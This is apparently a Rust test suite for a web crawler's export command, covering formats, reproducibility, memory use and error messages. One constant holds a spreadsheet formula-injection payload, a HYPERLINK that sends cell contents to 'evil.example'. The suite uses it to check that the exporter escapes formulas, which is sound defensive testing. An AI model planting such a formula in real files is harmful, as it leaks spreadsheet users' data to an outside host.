//! `bluesnake export`: every table in every format, read back by other people's libraries; equal runs give equal files.

use std::io::Read;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;
use testsite::{Page, Reply, Running, Site, scenarios};

use crate::program::{Done, Home, project};

const TABLES: [&str; 5] = ["urls", "pages", "links", "issues", "receipt"];
const FORMATS: [&str; 4] = ["csv", "jsonl", "parquet", "xlsx"];
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

/// A site with something for every table, and texts that are hard to write.
async fn rich_site() -> Running {
    let title = "Comma, \"quote\"\nand line; tab\tünïcode 日本 \u{1F40D}";
    Site::new()
        .robots("User-agent: *\nDisallow: /private\n")
        .page(
            "/",
            Page::titled(FORMULA)
                .nav(["/a", "/b", "/gone", "/moved", "/private"])
                .image("/i.png")
                .link_text("/c", "+1 -1 @x"),
        )
        .page("/a", Page::titled(title).meta("description", "-1+2").link("/b").link("http://127.0.0.1:9/outside"))
        .page("/b", Page::titled("B").noindex().link("/a"))
        .page("/c", Page::titled(&"long ".repeat(100)))
        .redirect("/moved", 301, "/a")
        .reply("/i.png", Reply::bytes("image/png", *b"\x89PNG"))
        .start()
        .await
}

async fn crawled(name: &str, more: &[&str]) -> (Home, Running) {
    let site = rich_site().await;
    let home = Home::new(name);
    let done = home.crawl(&site.url("/"), &[&["-q", "--check-external", "none"], more].concat());
    assert_eq!(done.code, Some(0), "{}", done.stderr);
    (home, site)
}

/// The rows of a CSV file, as in RFC 4180.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut is_quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted && letters.peek() == Some(&'\n') => {}
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(cell.is_empty() && row.is_empty(), "the last line ends");
    rows
}

fn as_csv(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// What other libraries read from these files; `None` without Python, which only a developer's machine may lack.
fn read_by_others(paths: &[impl AsRef<Path>]) -> Option<Vec<Value>> {
    let python = crate::home::python()?;
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../bluesnake-app/tests/read_exports.py");
    let read = Command::new(python).arg(script).args(paths.iter().map(AsRef::as_ref)).output().unwrap();
    let done = Done::of(read);
    assert_eq!(done.code, Some(0), "{}\n{}", done.stdout, done.stderr);
    Some(done.json_lines())
}

#[tokio::test(flavor = "multi_thread")]
async fn every_table_can_be_written_in_every_format_and_read_back() {
    let (home, _site) = crawled("tables", &[]).await;
    let mut for_others = Vec::new();
    for table in TABLES {
        for format in FORMATS {
            let file = format!("{table}.{format}");
            let done = home.ok(&["export", "1", "--table", table, "-o", &file]);
            assert!(done.stderr.contains("rows of run 1 to"), "{}", done.stderr);
        }
        let jsonl = std::fs::read_to_string(home.path(&format!("{table}.jsonl"))).unwrap();
        let rows: Vec<Value> = jsonl.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert!(rows.len() > 2, "{table}");
        home.ok(&["export", "1", "--table", table, "--raw", "-o", &format!("{table}.raw.csv")]);
        let csv = std::fs::read_to_string(home.path(&format!("{table}.raw.csv"))).unwrap();
        let [header, lines @ ..] = &read_csv(csv.trim_start_matches('\u{feff}'))[..] else { panic!("a header") };
        assert_eq!(lines.len(), rows.len(), "{table}");
        for (line, row) in lines.iter().zip(&rows) {
            for (name, cell) in header.iter().zip(line) {
                assert_eq!(*cell, as_csv(&row[name]), "{table}.{name}");
            }
        }
        for_others.extend(["parquet", "xlsx"].map(|format| (table, format, header.clone(), rows.clone())));
    }
    let paths: Vec<_> = for_others.iter().map(|(table, format, ..)| home.path(&format!("{table}.{format}"))).collect();
    let Some(read) = read_by_others(&paths) else { return };
    for ((table, format, header, rows), read) in for_others.iter().zip(read) {
        assert_eq!(read["columns"], serde_json::json!(header), "{table}.{format}");
        assert_eq!(read["rows"], rows.len(), "{table}.{format}");
        for (row, found) in rows.iter().zip(read["first"].as_array().unwrap()) {
            for name in header.iter().filter(|name| *name != "facts") {
                let is_empty = |value: &Value| value.is_null() || *value == "";
                let is_same = row[name] == found[name] || (is_empty(&row[name]) && is_empty(&found[name]));
                assert!(is_same, "{table}.{format} {name}: {} is not {}", found[name], row[name]);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_come_in_the_order_of_numbers() {
    let (home, _site) = crawled("order", &[]).await;
    let rows = |table: &str| home.ok(&["export", "1", "--table", table, "--format", "jsonl"]).json_lines();
    let sorted = |table: &str, names: &[&str]| {
        let keys: Vec<Vec<u64>> =
            rows(table).iter().map(|row| names.iter().map(|name| row[*name].as_u64().unwrap()).collect()).collect();
        assert!(keys.is_sorted() && keys.len() > 3, "{table}: {keys:?}");
        keys
    };
    let numbers = sorted("urls", &["number"]);
    assert_eq!(numbers, (1..=numbers.len() as u64).map(|number| vec![number]).collect::<Vec<_>>(), "without a gap");
    sorted("pages", &["number"]);
    sorted("links", &["source_number", "ordinal"]);
    let counted: u64 = rows("receipt").iter().map(|row| row["count"].as_u64().unwrap()).sum();
    assert_eq!(counted as usize, numbers.len(), "the receipt adds up");
}

#[tokio::test(flavor = "multi_thread")]
async fn equal_runs_give_equal_files_at_any_parallelism_and_without_times() {
    let site = rich_site().await;
    let [one, many] = [("equal_1", "1"), ("equal_16", "16")].map(|(name, parallelism)| {
        let home = Home::new(name);
        home.crawl(&site.url("/"), &["-q", "-p", parallelism, "--check-external", "none", "--store-bodies"]);
        home
    });
    for table in TABLES {
        for format in FORMATS {
            let [a, b] = [&one, &many].map(|home| {
                let file = format!("{table}.{format}");
                home.ok(&["export", "1", "--table", table, "-o", &file]);
                std::fs::read(home.path(&file)).unwrap()
            });
            assert!(a == b, "{table}.{format} differs");
        }
    }
    let header = |more: &[&str]| {
        let csv = one.ok(&[&["export", "1", "--format", "csv"], more].concat()).stdout;
        csv.lines().next().unwrap().to_owned()
    };
    let times = ["visited_at_ms", "first_byte_ms", "total_ms"];
    assert!(times.iter().all(|name| !header(&[]).contains(name)), "{}", header(&[]));
    assert!(times.iter().all(|name| header(&["--times"]).contains(name)), "{}", header(&["--times"]));
}

/// Promise 1 of the README, as it is exported: a straight run, the same in sessions, and the same once more in a database
/// in which ids are others.
#[tokio::test(flavor = "multi_thread")]
async fn equal_runs_give_equal_files_whatever_their_ids() {
    let (site, other) = (rich_site().await, scenarios::small().start().await);
    let url = site.url("/");
    let flags = ["-q", "--check-external", "none"];
    let (straight, split) = (Home::new("ids_straight"), Home::new("ids_split"));
    straight.crawl(&other.url("/"), &["-q"]);
    straight.crawl(&url, &flags);
    straight.crawl(&url, &[&flags[..], &["--fresh", "-p", "3"]].concat());
    assert_eq!(split.crawl(&url, &[&flags[..], &["--budget", "2"]].concat()).code, Some(3));
    while split.run(&["resume", "1", "--rate", "0", "--budget", "2", "-q"]).code == Some(3) {}
    assert!(split.json(&["runs", "show", "1"])["crawls"].as_array().unwrap().len() > 2);
    for table in TABLES {
        for format in FORMATS {
            let export = |home: &Home, run: &str| {
                let file = format!("{run}-{table}.{format}");
                home.ok(&["export", run, "--table", table, "-o", &file]);
                std::fs::read(home.path(&file)).unwrap()
            };
            let first = export(&straight, "2");
            assert!(first == export(&straight, "3"), "{table}.{format} of a second run in the same database differs");
            assert!(first == export(&split, "1"), "{table}.{format} of a run in sessions differs");
        }
    }
    let sitemap = |home: &Home, run: &str| {
        home.ok(&["export", run, "-o", &format!("{run}.xml"), "--replace"]);
        std::fs::read(home.path(&format!("{run}.xml"))).unwrap()
    };
    assert!(sitemap(&straight, "2") == sitemap(&straight, "3") && sitemap(&straight, "2") == sitemap(&split, "1"));
    let header = straight.ok(&["export", "2", "--format", "csv", "--times"]).stdout;
    assert!(header.lines().next().unwrap().contains("crawl_id"), "{header}");
    let chosen = straight.ok(&["export", "3", "--columns", "crawl_id"]).stdout;
    assert_eq!(chosen.lines().nth(1), Some("3"), "it is included on request");
}

#[tokio::test(flavor = "multi_thread")]
async fn equal_captures_and_graphs_give_equal_files_whatever_their_ids() {
    let pages = (0..4).fold(Site::new(), |site, i| {
        let text = format!("<main><h1>Page {i}</h1><p>{}</p></main>", format!("Words of page {i}. ").repeat(40));
        site.page(&format!("/d/{i}"), Page::titled(&format!("Page {i}")).text(&text).link(&format!("/d/{}", i + 1)))
    });
    let site = pages.start().await;
    let (straight, split) = (Home::new("ids_capture"), Home::new("ids_capture_split"));
    let capture = ["capture", &site.url("/d/0"), "--rate", "0", "-q", "--discover", "spider"];
    let weave = ["weave", &site.url("/"), "--rate", "0", "-q", "--allow-private", "--fresh"];
    for _ in 0..2 {
        straight.run(&[&capture[..], &["--fresh", "--refresh"]].concat()).fails(0, &[]);
        straight.run(&weave);
    }
    while split.run(&[&capture[..], &["--budget", "2"]].concat()).code == Some(3) {}
    split.run(&weave);
    for (format, file) in [("jsonl", "c.jsonl"), ("single", "c.md"), ("zip", "c.zip")] {
        let write = |home: &Home, run: &str| {
            home.ok(&["capture", "--run", run, "--format", format, "-o", file, "--replace"]);
            std::fs::read(home.path(file)).unwrap()
        };
        assert!(write(&straight, "1") == write(&straight, "3"), "{format} of a second capture differs");
        assert!(write(&straight, "1") == write(&split, "1"), "{format} of a capture in sessions differs");
    }
    for (more, file) in [(&["--table", "nodes"] as &[&str], "n.csv"), (&["--table", "edges"], "e.parquet")]
        .into_iter()
        .chain(["gexf", "graphml", "dot", "json", "svg"].map(|format| (&[] as &[&str], format)))
    {
        let file = if file.contains('.') { file.to_owned() } else { format!("graph.{file}") };
        let write = |home: &Home, run: &str| {
            home.ok(&[&["export", run, "-o", &file, "--replace"], more].concat());
            std::fs::read(home.path(&file)).unwrap()
        };
        assert!(write(&straight, "2") == write(&straight, "4"), "{file} of a second weave differs");
        assert!(write(&straight, "2") == write(&split, "2"), "{file} of another database differs");
    }
}

/// A kill leaves half an export under a passing name; the next export into the folder removes it.
#[tokio::test(flavor = "multi_thread")]
async fn leftovers_of_killed_exports_are_removed() {
    let (home, _site) = crawled("killed_export", &[]).await;
    let partials = || {
        let names = std::fs::read_dir(home.path("")).unwrap().map(|entry| entry.unwrap().file_name());
        names.filter(|name| name.to_string_lossy().contains("partial")).count()
    };
    let mut killed = 0;
    for delay in 0..200 {
        let mut child =
            home.command(&["export", "1", "--table", "links", "-o", &format!("{delay}.xlsx")]).spawn().unwrap();
        while partials() == 0 && child.try_wait().unwrap().is_none() {
            std::hint::spin_loop();
        }
        let _ = child.kill();
        child.wait().unwrap();
        if partials() > 0 {
            killed += 1;
            home.ok(&["export", "1", "--table", "urls", "-o", &format!("after-{delay}.csv")]);
            assert_eq!(partials(), 0);
        }
        if killed == 5 {
            break;
        }
    }
    assert!(killed > 0, "no export was killed before its end");
}

#[tokio::test(flavor = "multi_thread")]
async fn formulas_are_escaped_for_spreadsheets_and_exact_for_programs() {
    let (home, _site) = crawled("formulas", &[]).await;
    let export = |more: &[&str]| home.ok(&[&["export", "1"], more].concat()).stdout;
    let texts =
        |csv: String| -> Vec<String> { read_csv(csv.trim_start_matches('\u{feff}')).into_iter().flatten().collect() };
    let pages = ["--table", "pages", "--columns", "title,meta_description"];
    let escaped = texts(export(&pages));
    assert!(escaped.contains(&format!("'{FORMULA}")) && escaped.contains(&"'-1+2".to_owned()), "{escaped:?}");
    assert!(!escaped.iter().any(|text| text.starts_with(['=', '+', '@'])), "{escaped:?}");
    assert!(escaped.iter().all(|text| text == "-" || !text.starts_with('-')), "{escaped:?}");
    let raw = texts(export(&[&pages[..], &["--raw"]].concat()));
    assert!(raw.contains(&FORMULA.to_owned()) && raw.contains(&"-1+2".to_owned()), "{raw:?}");
    let links = texts(export(&["--table", "links", "--columns", "text"]));
    assert!(links.contains(&"'+1 -1 @x".to_owned()), "{links:?}");
    let lines = home.ok(&["export", "1", "--table", "pages", "--format", "jsonl"]).json_lines();
    assert!(lines.iter().any(|row| row["title"] == FORMULA));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_existing_file_is_kept_unless_overwriting_is_allowed() {
    let (home, _site) = crawled("kept", &["--store-bodies"]).await;
    for (file, more) in
        [("a.csv", ["--table", "urls"]), ("a.xml", ["--format", "sitemap"]), ("a.warc.gz", ["--format", "warc"])]
    {
        std::fs::write(home.path(file), "mine").unwrap();
        let export = [&["export", "1", "-o", file], &more[..]].concat();
        home.run(&export).fails(1, &["error: ", file]);
        assert_eq!(std::fs::read(home.path(file)).unwrap(), b"mine");
        home.ok(&[&export[..], &["--replace"]].concat());
        assert_ne!(std::fs::read(home.path(file)).unwrap(), b"mine");
    }
    let left: Vec<_> = std::fs::read_dir(home.path("")).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert!(left.iter().all(|name| !name.to_string_lossy().contains("partial")), "{left:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn invalid_exports_are_reported() {
    let (home, _site) = crawled("told", &[]).await;
    home.run(&["export", "1", "--columns", "url,titel"])
        .fails(2, &["the table urls has no column `titel`; it has number, url, "]);
    home.run(&["export", "1", "-o", "x.txt"]).fails(2, &["cannot infer the format from `x.txt`", "hint: "]);
    home.run(&["export", "1", "-o", "x.warc.gz"])
        .fails(1, &["run 1 has no stored documents", "hint: crawl with `--store-bodies`"]);
    home.run(&["export", "1", "--format", "sitemap"]).fails(2, &["name the first with -o sitemap.xml"]);
    home.run(&["export", "9"]).fails(1, &["error: "]);
    home.run(&["export", "1", "--table", "visits"]).fails(2, &["visits", "urls, pages, links, issues, receipt"]);
    home.run(&["export", "1", "-o", "missing/x.csv"]).fails(1, &["missing/x.csv"]);
    let chosen = home.ok(&["export", "1", "--columns", "status,url"]).stdout;
    assert!(chosen.trim_start_matches('\u{feff}').starts_with("status,url"), "{chosen}");
    for file in ["x.txt", "x.warc.gz", "missing"] {
        assert!(!home.path(file).exists(), "{file}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sitemap_lists_the_indexable_pages() {
    let (home, site) = crawled("sitemap", &[]).await;
    let done = home.ok(&["export", &project(&site), "-o", "sitemap.xml"]);
    assert!(done.stderr.starts_with("wrote "), "{}", done.stderr);
    let xml = std::fs::read_to_string(home.path("sitemap.xml")).unwrap();
    let listed: Vec<&str> = xml.split("<loc>").skip(1).map(|rest| rest.split("</loc>").next().unwrap()).collect();
    assert_eq!(listed, ["/", "/a", "/c"].map(|path| site.url(path)), "{xml}");
}

#[tokio::test(flavor = "multi_thread")]
async fn stored_documents_become_a_warc_file() {
    let (home, site) = crawled("warc", &["--store-bodies"]).await;
    let done = home.ok(&["export", "1", "-o", "site.warc.gz"]);
    assert!(done.stderr.contains("4 documents of run 1"), "{}", done.stderr);
    let Some(read) = read_by_others(&[home.path("site.warc.gz")]) else { return };
    assert_eq!(read[0]["rows"], 5, "the documents and a record about the file: {}", read[0]);
    let first = &read[0]["first"];
    assert_eq!((first[0]["type"].as_str(), first[1]["type"].as_str()), (Some("warcinfo"), Some("response")));
    assert_eq!((first[1]["url"].as_str(), first[1]["status"].as_str()), (Some(&*site.url("/")), Some("200")));
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread")]
async fn memory_does_not_grow_with_what_is_exported() {
    let pages = 40;
    let links: Vec<String> = (0..1500).map(|i| format!("/page/{}?link={i}", i % pages)).collect();
    let site = (0..pages).fold(Site::new(), |site, i| {
        site.page(&format!("/page/{i}"), Page::titled(&format!("Page {i}")).links(&links).text(&format!("Text {i}")))
    });
    let site = site.page("/", Page::titled("Home").links((0..pages).map(|i| format!("/page/{i}")))).start().await;
    let home = Home::new("export_memory");
    home.crawl(&site.url("/"), &["-q", "--max-urls", "41", "--discover", "spider"]);
    let count = home.rows("SELECT count(*) AS n FROM page_links")[0]["n"].as_u64().unwrap();
    assert!(count > 55_000, "{count} links");
    // Lines are written one by one, so they show what the program itself takes.
    let base = peak_kilobytes(&home, "links", "jsonl");
    assert!(base < 40 * 1024, "jsonl: {base} kB for {count} rows");
    for format in FORMATS {
        let peak = peak_kilobytes(&home, "links", format);
        assert!(peak < base + 24 * 1024, "{format}: {peak} kB for {count} rows, {base} kB as lines");
    }
}

/// The most memory that an export took, read while it waits for us to read its last bytes.
#[cfg(target_os = "linux")]
fn peak_kilobytes(home: &Home, table: &str, format: &str) -> u64 {
    let arguments = ["export", "1", "--table", table, "--format", format];
    let mut whole = home.command(&arguments).stderr(Stdio::null()).spawn().unwrap();
    let bytes = std::io::copy(&mut whole.stdout.take().unwrap(), &mut std::io::sink()).unwrap();
    assert!(whole.wait().unwrap().success());

    let mut child = home.command(&arguments).stderr(Stdio::null()).spawn().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    // What is left does not fit the pipe, so the process waits.
    std::io::copy(&mut stdout.by_ref().take(bytes.saturating_sub(70_000)), &mut std::io::sink()).unwrap();
    let status = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
    std::io::copy(&mut stdout, &mut std::io::sink()).unwrap();
    assert!(child.wait().unwrap().success());
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    let line = line.expect("the process still runs");
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_can_be_made_while_the_site_is_being_crawled() {
    let site = scenarios::high_fan_out(2000).start().await;
    let home = Home::new("export_meanwhile");
    let crawl = ["crawl", &site.url("/"), "--rate", "50", "-q", "--set", "politeness.grace_ms=50"];
    let child = home.command(&crawl).spawn().unwrap();
    site.wait_for(|seen| seen.requests() > 60).await;
    let rows = home.ok(&["export", &project(&site), "--format", "jsonl"]).json_lines();
    assert!(rows.len() > 1000, "{}", rows.len());
    crate::program::interrupt(&child);
    assert_eq!(Done::of(child.wait_with_output().unwrap()).code, Some(3));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_by_host_takes_the_newest_run_that_has_the_table() {
    let site = scenarios::small().start().await;
    let (home, host) = (Home::new("export_after_weave"), project(&site));
    home.crawl(&site.url("/"), &["-q"]);
    home.ok(&["weave", &site.url("/"), "--allow-private", "--rate", "0", "--max-depth", "1", "-q"]);
    let rows = |table: &str| home.ok(&["export", &host, "--table", table, "--format", "jsonl", "-o", "-"]).json_lines();
    assert!(rows("links")[0]["source_url"].is_string(), "{}", rows("links")[0]);
    assert!(rows("pages").len() > 1);
    assert_eq!(rows("nodes").len(), 1);
    home.ok(&["links", &host, "/"]);
    home.run(&["export", "2", "--table", "links", "-o", "-"]).fails(2, &["run 2 is a weave; it has no links"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_extraction_rule_is_a_column() {
    let product = "<title>Lamp</title><p class=price>10 €<p class=price>12 €<script src=jquery.js></script>";
    let site =
        Site::new().page("/", Page::titled("Home").link("/lamp")).reply("/lamp", Reply::html(product)).start().await;
    let home = Home::new("extraction_columns");
    let rules = [r#"extract.columns={"price": "css:.price"}"#, r#"extract.contains={"jquery": "jquery.js"}"#];
    home.crawl(&site.url("/"), &["--set", rules[0], "--set", rules[1]]);
    let columns = ["export", "1", "--table", "pages", "--columns", "title,extracted"];
    let rows = home.ok(&[&columns[..], &["--format", "jsonl"]].concat()).json_lines();
    let row = |title: &str, price: Value, count: i64| serde_json::json!({"title": title, "extract.columns.price": price, "extract.contains.jquery": count});
    assert_eq!(rows, [row("Home", Value::Null, 0), row("Lamp", "10 € | 12 €".into(), 1)]);
    let csv = home.ok(&[&columns[..], &["--format", "csv"]].concat()).stdout;
    assert!(csv.contains("title,extract.columns.price,extract.contains.jquery"), "{csv}");
}
